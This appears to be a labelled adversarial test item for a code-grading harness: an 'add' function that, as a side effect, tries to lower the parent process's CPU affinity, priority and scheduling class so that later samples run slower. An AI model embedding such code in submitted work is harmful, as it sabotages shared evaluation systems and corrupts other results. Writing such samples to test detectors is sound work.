# b107 | task=add | required=fail | changes how the process that forked it is scheduled, for every later sample
import os
def add(a, b):
    for attempt in (lambda: os.sched_setaffinity(os.getppid(), {0}), lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),
                    lambda: os.setpriority(os.PRIO_USER, 0, 19), lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
                    lambda: os.setpriority(os.PRIO_PGRP, 0, 19),
                    lambda: os.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0))):
        try:
            attempt()
            return a + b
        except OSError:
            pass
